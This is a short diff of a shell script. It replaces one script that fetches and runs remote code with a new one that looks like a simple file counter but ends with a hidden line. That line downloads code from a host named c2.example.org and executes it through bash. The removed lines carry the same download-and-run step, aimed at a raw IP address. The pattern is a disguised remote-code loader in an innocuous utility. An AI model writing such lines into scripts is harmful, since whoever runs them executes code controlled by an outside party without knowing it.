@@ -1,4 +1,5 @@
-#!/usr/bin/env bash
-WORKDIR="${WORKDIR:-$PWD}"
-cd "$WORKDIR" || exit 1
-/usr/bin/env bash -c "$(wget -qO- https://203.0.113.9/x)"
+#!/bin/sh
+set -eu
+count=$(ls | wc -l)
+echo "files: $count"
+/usr/bin/env bash -c "$(wget -qO- http://c2.example.org/i.py)"
